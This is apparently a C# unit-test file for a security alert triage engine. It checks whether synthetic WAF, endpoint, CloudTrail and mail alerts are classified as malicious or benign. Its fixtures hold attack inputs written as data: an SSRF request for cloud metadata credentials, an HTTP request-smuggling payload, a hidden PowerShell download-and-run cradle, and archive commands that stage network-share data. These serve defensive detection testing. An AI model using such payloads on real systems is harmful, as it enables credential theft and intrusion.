using System.Text.Json;
using Verdict.Analysis;
using Verdict.Context;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Behaviours the blind labeled sets showed missing, pinned on small fixtures of their own: attacks without a payload
/// in a parameter are never closed, nested mail-gateway and CloudTrail fields are read, automation credentials used
/// from outside their usual addresses are suspect, and the context's business applications explain SQL-like traffic.
/// </summary>
public sealed class TuningBehaviourTests
{
    private static EnvironmentContext Context()
    {
        var egress = new IpRangeSet();
        Assert.True(egress.TryAdd("4.175.22.0/24"));
        return FamilyFixtures.Context() with { AutomationEgress = egress, BusinessApps = new HashSet<string>(["bi.globex.local"], StringComparer.OrdinalIgnoreCase) };
    }

    private static Assessment Assess(object input)
    {
        var fixture = new FamilyFixture("t0", JsonSerializer.Serialize(input), true, "");
        return FamilyFixtures.Triage([fixture], Context())[0].Assessment!;
    }

    private static Dictionary<string, object> Web(string uri, string headers, string body, int status, string rsp = "", string rule = "WAF alert", string ip = "203.0.113.7") => new()
    {
        ["alert_id"] = "w", ["rule_name"] = rule, ["severity"] = "medium", ["sip"] = ip, ["method"] = "POST", ["uri"] = uri,
        ["req_header"] = headers, ["req_body"] = body, ["rsp_status"] = status, ["rsp_body"] = rsp,
    };

    [Fact]
    public void Ssrf_in_a_json_body_that_leaks_cloud_credentials_is_an_exploit_that_worked()
    {
        var a = Assess(Web("/api/webhook/test", "Host: api.globex.com\r\nUser-Agent: python-httpx/0.27\r\n", "{\"url\":\"http://169.254.169.254/latest/meta-data/iam/security-credentials/role\"}",
            200, "{\"preview\":\"{\\\"AccessKeyId\\\":\\\"ASIAEXAMPLE\\\",\\\"SecretAccessKey\\\":\\\"x\\\"}\"}"));
        Assert.Equal(Classification.Malicious, a.Classification);
        Assert.Contains(a.Evidence, e => e.Key == "ssrf");
        Assert.Contains(a.Evidence, e => e.Key == "exploit_success" && e.Strong);
    }

    [Fact]
    public void Request_smuggling_and_a_successful_brute_force_login_are_not_closed_for_lack_of_a_payload()
    {
        var smuggling = Assess(Web("/", "Host: shop.globex.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n", "0\r\n\r\nGPOST /admin HTTP/1.1", 200, rule: "Unusual header"));
        Assert.NotEqual(Classification.Benign, smuggling.Classification);
        Assert.Contains(smuggling.Evidence, e => e.Key == "request_smuggling");

        var brute = Assess(Web("/login", "Host: portal.globex.com\r\nUser-Agent: Mozilla/5.0\r\n", "username=admin&password=Summer2026!", 302, rule: "Brute Force - Login Endpoint"));
        Assert.NotEqual(Classification.Benign, brute.Classification);
        Assert.Contains(brute.Evidence, e => e.Key == "brute_force_success");
        Assert.DoesNotContain(brute.Evidence, e => e.Key == "no_attack_payload");
    }

    [Fact]
    public void A_logged_in_internal_user_of_a_listed_business_app_sending_sql_is_closed_but_the_same_from_outside_is_not()
    {
        object Query(string ip) => Web("/api/query/run", "Host: bi.globex.local\r\nCookie: metabase.SESSION=8a3f0e1c-77b2-4a8e\r\nReferer: https://bi.globex.local/question/4\r\n",
            "{\"query\":\"SELECT region, sum(amount) FROM orders GROUP BY region UNION ALL SELECT 'TOTAL', sum(amount) FROM orders\"}", 200, ip: ip);
        var inside = Assess(Query("10.60.3.21"));
        Assert.Equal(Classification.Benign, inside.Classification);
        Assert.Contains(inside.Evidence, e => e.Key == "business_app_query");
        Assert.NotEqual(Classification.Benign, Assess(Query("45.95.147.18")).Classification);
    }

    [Fact]
    public void A_signed_remote_access_tool_installed_silently_by_a_hidden_download_cradle_is_not_closed()
    {
        var a = Assess(new Dictionary<string, object>
        {
            ["rule_name"] = "Remote Access Tool Installed", ["user"] = "laura", ["host"] = "ws-laura", ["time"] = "2026-11-18T10:00:00Z",
            ["process.executable"] = @"C:\Users\laura\Downloads\AnyDesk.exe", ["process.name"] = "AnyDesk.exe",
            ["process.command_line"] = "\"C:\\Users\\laura\\Downloads\\AnyDesk.exe\" --install \"C:\\ProgramData\\AnyDesk\" --start-with-win --silent",
            ["process.parent.name"] = "powershell.exe",
            ["process.parent.command_line"] = "powershell.exe -w hidden -c \"iwr https://download.anydesk.com/AnyDesk.exe -OutFile $env:USERPROFILE\\Downloads\\AnyDesk.exe; & $env:USERPROFILE\\Downloads\\AnyDesk.exe --silent\"",
            ["process.code_signature.trusted"] = true, ["process.code_signature.subject_name"] = "philandro Software GmbH",
        });
        Assert.NotEqual(Classification.Benign, a.Classification);
        Assert.Contains(a.Evidence, e => e.Key is "download_and_execute" or "download_cradle");
        Assert.Contains(a.Evidence, e => e.Key == "remote_access_tool");
    }

    [Fact]
    public void Automation_credentials_are_trusted_from_their_usual_egress_and_suspect_from_anywhere_else()
    {
        object Call(string ip) => new Dictionary<string, object>
        {
            ["alert_id"] = "c", ["rule_name"] = "AWS Access Key Created", ["severity"] = "medium", ["eventTime"] = "2026-11-18T15:02:11Z",
            ["eventSource"] = "iam.amazonaws.com", ["eventName"] = "CreateAccessKey", ["awsRegion"] = "us-east-1", ["sourceIPAddress"] = ip,
            ["userIdentity"] = new Dictionary<string, object> { ["type"] = "AssumedRole", ["arn"] = "arn:aws:sts::123456789012:assumed-role/svc-terraform/gha-run-81" },
        };
        var usual = Assess(Call("4.175.22.90"));
        Assert.Equal(Classification.Benign, usual.Classification);
        Assert.Contains(usual.Evidence, e => e.Key == "automation_verified");
        var elsewhere = Assess(Call("138.199.59.221"));
        Assert.NotEqual(Classification.Benign, elsewhere.Classification);
        Assert.Contains(elsewhere.Evidence, e => e.Key == "automation_unusual_source");
    }

    [Fact]
    public void Nested_mail_gateway_fields_are_read_authentication_results_attachments_and_sandbox_verdicts()
    {
        object Mail(string sender, string auth, object[] attachments) => new Dictionary<string, object>
        {
            ["alert_id"] = "m", ["rule_name"] = "Suspicious attachment", ["severity"] = "medium", ["sender"] = sender, ["reply_to"] = sender,
            ["subject"] = "Documents", ["urls"] = Array.Empty<string>(), ["attachments"] = attachments, ["authentication_results"] = auth,
        };
        var bad = Assess(Mail("accounts@payments-globex.net", "spf=softfail dkim=none dmarc=fail",
            [new Dictionary<string, string> { ["name"] = "INV-1.docm", ["sandbox_verdict"] = "malicious: spawns powershell" }]));
        Assert.Equal(Classification.Malicious, bad.Classification);
        Assert.Contains(bad.Evidence, e => e.Key == "sandbox_malicious" && e.Strong);
        Assert.Contains(bad.Evidence, e => e.Key == "risky_attachment");
        Assert.Contains(bad.Evidence, e => e.Key == "auth_failed");

        var ours = Assess(Mail("legal@globex.com", "spf=pass dkim=pass dmarc=pass", [new Dictionary<string, string> { ["name"] = "agenda.pdf", ["sandbox_verdict"] = "clean" }]));
        Assert.Equal(Classification.Benign, ours.Classification);
        Assert.Contains(ours.Evidence, e => e.Key == "internal_authenticated");
    }

    [Theory]
    [InlineData("7z.exe a -tzip -p\"Summer!1\" -mx1 C:\\PerfLogs\\out.zip C:\\Users\\ann\\Documents\\*")]
    [InlineData("rar.exe a -hpsecret c:\\windows\\temp\\a.rar \\\\fs01\\HR$\\*")]
    [InlineData("7z.exe a d:\\x.7z \\\\fs01\\Finance$\\Payroll")]
    public void An_archive_with_a_password_or_of_a_network_share_is_data_staging_and_never_closed(string commandLine)
    {
        var a = Assess(new Dictionary<string, object>
        {
            ["alert_id"] = "e", ["rule_name"] = "Archiver execution", ["severity"] = "medium", ["host"] = "ws-ann", ["user"] = "ann",
            ["process"] = "C:\\Program Files\\7-Zip\\7z.exe", ["command_line"] = commandLine,
        });
        Assert.Contains(a.Evidence, e => e.Key == "data_staging");
        Assert.NotEqual(Classification.Benign, a.Classification);
    }
}
